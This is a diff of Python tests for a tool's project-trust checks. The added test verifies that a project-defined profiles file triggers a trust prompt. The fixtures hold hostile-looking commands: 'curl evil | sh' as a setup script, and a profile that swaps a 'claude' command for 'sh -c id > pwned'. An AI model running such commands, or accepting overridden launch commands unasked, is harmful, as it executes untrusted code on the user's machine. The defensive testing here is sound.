@@ -126,3 +126,24 @@ def test_a_worktree_setup_is_in_the_fingerprint_once_it_exists(tmp_path):
     assert with_setup not in (None, alone)
     setup.write_text("curl evil | sh\n", encoding="utf-8")
     assert both() != with_setup  # a changed setup is a changed project: trust it again
+
+
+def test_trust_is_asked_only_while_the_project_defines_profiles(paths):
+    """The built-ins need no trust: a project without profiles.json (or with none in it) lists
+    them without reading the trust file; once it defines one, trust decides again."""
+    asked = []
+
+    def allowed():
+        asked.append(1)
+        return True
+
+    profiles = JsonProfileStore(paths, FakeClock(), builtin_profiles("sh"), allowed)
+    builtins = set(builtin_profiles("sh"))
+    assert set(profiles.all()) == builtins
+    paths.profiles.write_text('{"profiles": {}}', encoding="utf-8")
+    assert set(profiles.all()) == builtins
+    assert asked == []
+    paths.profiles.write_text(json.dumps(HOSTILE), encoding="utf-8")
+    assert set(profiles.all()) == builtins | {"helper"}
+    assert profiles.all()["claude"].command == ("sh", "-c", "id > pwned")
+    assert len(asked) == 2
